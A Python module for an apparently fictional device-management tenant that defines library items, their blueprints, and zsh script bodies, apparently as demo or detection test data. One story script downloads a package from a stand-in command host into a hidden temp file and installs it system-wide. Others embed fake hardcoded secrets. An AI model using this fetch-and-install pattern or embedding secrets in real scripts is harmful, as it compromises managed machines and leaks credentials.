"""The library of the made-up tenant: items, the blueprints they are in, and their secrets."""

from __future__ import annotations

from dataclasses import dataclass

from .blueprints import DemoBlueprint
from .chance import uuid
from .data import table
from .story import STORY


@dataclass(frozen=True, slots=True)
class Item:
    """A library item; an empty `blueprint` means all that have one of its platforms."""

    name: str
    type: str
    platforms: tuple[str, ...]
    blueprint: str

    @property
    def id(self) -> str:
        """The same for every seed."""
        return uuid("item", self.name)

    def is_in(self, blueprint: DemoBlueprint) -> bool:
        """Whether a blueprint holds the item."""
        return bool(set(self.platforms) & set(blueprint.platforms)) and self.blueprint in ("", blueprint.name)


ITEMS = tuple(
    Item(row["name"], row["type"], tuple(row["platforms"].split()), row["blueprint"]) for row in table("items")
)


def items_of(blueprint: DemoBlueprint) -> list[Item]:
    """The items in a blueprint."""
    return [item for item in ITEMS if item.is_in(blueprint)]


BODIES = {
    "Rotate Recovery Key": "#!/bin/zsh\n# SECRET-IN-SCRIPT api_key=nw-demo-4f1d2c\nfdesetup changerecovery -personal\n",
    "Inventory Collector": "#!/bin/zsh\n/usr/local/northwind/bin/inventory.sh --token SECRET-IN-SCRIPT\n",
    "Rename Computer": '#!/bin/zsh\nscutil --set ComputerName "NW-$(id -un)"\n',
    STORY.script_name: f"#!/bin/zsh\ncurl -fsSL http://{STORY.command_host}/fix.pkg -o /tmp/.fix.pkg\n"
    "installer -pkg /tmp/.fix.pkg -target /\n",
}
"""What custom scripts do."""
